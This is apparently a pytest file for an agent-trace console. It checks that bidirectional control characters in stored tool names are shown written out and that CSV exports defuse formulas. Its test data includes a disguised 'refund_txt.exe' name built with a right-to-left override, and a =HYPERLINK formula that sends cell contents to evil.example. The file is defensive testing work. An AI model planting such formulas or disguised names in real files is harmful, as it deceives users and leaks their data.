"""Stored text that would deceive whoever reads it: bidirectional controls in a tool's name
shown written out on the console's pages (real Chromium), and text that a spreadsheet would run
as a formula defused in every CSV download (the console's and `sextant sql --format csv`)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter
from playwright.sync_api import Browser

from tests.support.admin import trajectory
from tests.support.agents import AgentScript, provider_for, trace_id_of
from tests.support.browser import new_page
from tests.support.cli import sextant_streams
from tests.support.server import FAST, RunningServer, serve

# Shown raw, "refund_\u202etxt.exe" reads as "refund_exe.txt".
DISGUISED = "refund_\u202etxt.exe"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunningServer, str]]:
    server = serve(tmp_path_factory.mktemp("escaping"), assembler=FAST)
    try:
        provider = provider_for(
            OTLPSpanExporter(endpoint=server.grpc_endpoint, insecure=True), service="support-desk"
        )
        script = AgentScript(provider.get_tracer("support"))
        with script.agent("support-\u2067agent", "Refund order 42", FORMULA) as root:
            script.chat([(DISGUISED, {"order": FORMULA})])
            script.tool(DISGUISED, {"order": FORMULA}, "@SUM(1+1)")
            script.chat()
        provider.shutdown()
        trace_id = trace_id_of(root)
        trajectory(server, trace_id)
        yield server, trace_id
    finally:
        server.stop()


def test_bidi_controls_in_stored_text_are_shown_written_out(
    chromium: Browser, stored: tuple[RunningServer, str]
) -> None:
    server, trace_id = stored
    with new_page(chromium, javascript=True) as page:
        page.goto(f"{server.admin_url}/trajectories/{trace_id}")
        names = page.locator("#steps .name").all_inner_texts()
        assert "refund_<U+202E>txt.exe" in names
        # the tool call the model asked for, in its messages, and its highlighted arguments
        asked = page.locator("#steps .messages .tool-call .tool-name").all_inner_texts()
        assert "refund_<U+202E>txt.exe" in asked
        assert "support-<U+2067>agent" in page.locator("h1").inner_text()
        text = page.locator("body").inner_text()
        assert "\u202e" not in text and "\u2067" not in text
        page.goto(f"{server.admin_url}/trajectories")
        listed = page.locator("#trajectories").inner_text()
        assert "<U+2067>" in listed and "\u2067" not in listed


def test_csv_downloads_defuse_formulas(
    chromium: Browser,
    stored: tuple[RunningServer, str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    server, trace_id = stored
    query = (
        "SELECT tool_name, arguments->>'order' AS argument, result, -5 AS n, '+1' AS plus,"
        " '-1' AS minus, chr(9) || 'tab' AS tab, chr(13) || 'cr' AS cr, 'plain' AS plain"
        f" FROM tool_calls WHERE trace_id = '{trace_id}'"
    )
    expected = {
        "tool_name": DISGUISED,
        "argument": "'" + FORMULA,
        "result": "'@SUM(1+1)",
        "n": "-5",
        "plus": "'+1",
        "minus": "'-1",
        "tab": "'\ttab",
        "cr": "'\rcr",
        "plain": "plain",
    }
    with new_page(chromium, javascript=True) as page:
        page.goto(server.admin_url + "/sql")
        page.fill("#sql", query)
        with page.expect_download() as download:
            page.click('button[value="csv"]')
        saved = tmp_path / "answer.csv"
        download.value.save_as(saved)
    (row,) = list(csv.DictReader(io.StringIO(saved.read_bytes().decode(), newline="")))
    assert row == expected
    code, out, err = sextant_streams(
        capsys, "sql", query, "--url", server.admin_url, "--format", "csv"
    )
    assert code == 0, err
    (row,) = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row == expected
